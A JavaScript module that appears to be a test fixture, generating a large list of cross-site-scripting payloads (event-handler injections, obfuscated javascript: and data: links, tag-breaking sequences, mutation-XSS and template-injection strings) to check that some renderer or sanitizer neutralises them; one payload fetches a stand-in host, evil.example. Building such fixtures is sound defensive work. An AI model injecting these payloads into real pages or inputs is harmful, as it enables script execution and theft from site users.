const SCRIPTS = ['alert(1)', "fetch('//evil.example')", 'top.__got=1'];
const EVENTS = ['onerror', 'onload', 'onfocus', 'ontoggle', 'onanimationstart', 'onbegin', 'onpointerrawupdate'];
const ELEMENTS = ['img src=x', 'svg', 'body', 'details open', 'video><source', 'iframe', 'input autofocus', 'marquee', 'math', 'object data=x', 'style'];
const SCHEMES = ['javascript:', 'JaVaScRiPt:', 'java\tscript:', 'java\nscript:', '\u0001javascript:', '&#106;avascript:', 'vbscript:', 'data:text/html,', 'data:text/html;base64,PHNjcmlwdD4='];
const TAGS = ['a href', 'form action', 'iframe src', 'object data', 'embed src', 'base href', 'meta http-equiv=refresh content', 'link rel=stylesheet href', 'area href', 'svg><use href'];
const BREAKS = ['">', "'>", '</title>', '</textarea>', '--!>', ']]>', '</style>', '</noscript>', '\u2028', '&lt;/script&gt;', '<![CDATA[', '<!--'];

const handlers = ELEMENTS.flatMap((element) => EVENTS.flatMap((event) => SCRIPTS.map((script) => `<${element} ${event}="${script}">`)));
const links = TAGS.flatMap((tag) => SCHEMES.map((scheme) => `<${tag}="${scheme}${SCRIPTS[2]}">x</${tag.split(/[ >]/)[0]}>`));
const broken = BREAKS.flatMap((end) => SCRIPTS.map((script) => `${end}<script>${script}</script>`));
const mutated = ['<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=top.__got=1&gt;">', '<svg></p><style><a id="</style><img src=1 onerror=top.__got=1>">', '<noscript><p title="</noscript><img src=x onerror=top.__got=1>">', '<form><math><mtext></form><form><mglyph><style></math><img src onerror=top.__got=1>', '{{constructor.constructor("top.__got=1")()}}', '${top.__got=1}', '<%= 7*7 %>', '[click](javascript:top.__got=1)', '![x](x"onerror="top.__got=1)', '<scr<script>ipt>top.__got=1</scr</script>ipt>', '＜script＞top.__got=1＜/script＞', '<ſcript>top.__got=1</ſcript>'];

/** Pieces of text that would run a script, load something or lead away if anybody took them for HTML. */
export const fragments = [...handlers, ...links, ...broken, ...mutated];
/** Addresses that an article may claim to have. */
export const hostileLinks = SCHEMES.map((scheme) => `${scheme}${SCRIPTS[2]}`);
